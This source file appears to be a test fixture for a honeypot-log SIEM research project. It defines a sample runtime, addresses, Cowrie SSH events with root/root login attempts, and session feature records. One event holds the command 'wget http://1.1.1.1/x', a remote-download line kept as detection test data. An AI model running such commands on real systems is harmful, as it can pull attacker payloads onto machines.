-- ===== src/Tests/Sample.antt =====
-- A run time and addresses that compute, and a few events.
use nsf_research_open_siem.Base.{
  ℕ, suc, ◌+◌, ◌-◌, ◌*◌, ◌/◌, ℤ, pos, refl, String, true, false, List, [], ◌∷◌, Option, none, some,
  arith, leb, pos_part, ◌==◌, string_eq, if◌then◌else◌,
}
use nsf_research_open_siem.Models.{Value, int, str, end, Event, SessionFeatures}
use nsf_research_open_siem.Runtime.{Runtime, Addresses}
use nsf_research_open_siem.Detectors.Laws.{FloatLaws}

abbrev int_value : Value → Option ℤ
int_value (int n) = some n
int_value v = none

abbrev float_value : Value → Option ℕ
float_value (int n) = some (pos_part n * 4)
float_value v = none

abbrev str_value : Value → String
str_value (str s) = s
str_value v = ""

abbrev least : ℕ → ℕ → ℕ
least a b = if leb a b then a else b

-- Numbers in quarters, cut off at 0, and texts in lower case.
abbrev pub sample_py : Runtime
sample_py = record {
  lower = λ s. s;
  strip = λ s. s;
  int_of = int_value;
  Float = ℕ;
  float_of = float_value;
  str_of = str_value;
  float_add = λ a b. a + b;
  of_int = λ z. pos_part z * 4;
  quarters = λ n. n;
  float_mul = λ a b. a * b / 4;
  float_min = least;
  float_le = leb;
  round = λ a n. a;
  float_sub = λ a b. a - b;
  float_div = λ a b. a * 4 / suc (b - 1);
  float_abs = λ a. a;
  z_scale = 3;
  float_int = λ a. pos (a / 4);
  is_finite = λ a. true;
  int_timestamp = λ t. pos (pos_part t / 1_000_000);
}

pub sample_laws : FloatLaws sample_py
sample_laws = record {
  le_total = λ a b. ground arith;
  le_trans = λ a b c h k. ground arith;
  quarters_le = λ m n h. refl;
  quarters_ge = λ m n h. refl;
  of_int_quarters = λ n. refl;
  add_zero = λ n. omega arith;
  add_grows = λ n b h. ground arith;
  mul_pos = λ a n h. ground arith;
  min_pos = λ a b h k. ground arith;
}

-- Addresses are texts; the network "10" holds the two addresses of the sample.
abbrev pub sample_ip : Addresses
sample_ip = record {
  Address = String;
  Network = String;
  ip_address = some;
  ip_network = λ s. if s == "10" then some s else none;
  in_network = λ a n. if a == "10.0.0.1" then true else a == "10.0.0.2";
  is_private = λ a. if a == "10.0.0.1" then true else a == "10.0.0.2";
  is_loopback = λ a. false;
  is_link_local = λ a. false;
  is_multicast = λ a. false;
  is_reserved = λ a. false;
  is_global = λ a. a == "1.1.1.1";
}

abbrev pub sample_event : Event
sample_event = record {
  source = "cowrie";
  event_type = "cowrie.login.failed";
  timestamp = some (pos 61_000_000);
  src_ip = some "1.1.1.1";
  src_port = some (pos 40_000);
  dest_ip = some "10.0.0.1";
  dest_port = some (pos 22);
  protocol = some "ssh";
  session = some "a1";
  username = some "root";
  password = some "root";
  command = none;
  url = none;
  domain = none;
  filename = none;
  hashes = [];
  raw = end;
  line_number = some 1;
}

abbrev pub command_event : Event
command_event = record sample_event {
  event_type = "cowrie.command.input";
  timestamp = some (pos 62_500_000);
  command = some "wget http://1.1.1.1/x";
}

abbrev pub other_event : Event
other_event = record sample_event {
  session = none;
  src_ip = some "10.0.0.2";
  dest_ip = some "1.1.1.1";
  timestamp = some (pos 130_000_000);
}

abbrev pub sample_log : List Event
sample_log = sample_event ∷ command_event ∷ other_event ∷ []

abbrev pub calm : SessionFeatures ℕ
calm = record {
  key = "a1";
  src_ip = some "1.1.1.1";
  first_seen = none;
  last_seen = none;
  total_events = 3;
  login_failures = 2;
  login_successes = 0;
  commands = 0;
  download_commands = 0;
  reverse_shells = 0;
  persistence_attempts = 0;
  scanner_commands = 0;
  suspicious_shells = 0;
  suricata_alerts = 0;
  dionaea_connections = 0;
  network_connections = 0;
  bytes_out = pos 0;
  bytes_in = pos 10;
  duration_seconds = 0;
  usernames = "root" ∷ [];
  passwords = "root" ∷ "toor" ∷ [];
  urls = [];
  hashes = [];
  event_types = [];
}

abbrev pub busy : SessionFeatures ℕ
busy = record calm {
  total_events = 6;
  login_failures = 4;
  login_successes = 1;
  commands = 1;
  download_commands = 1;
}
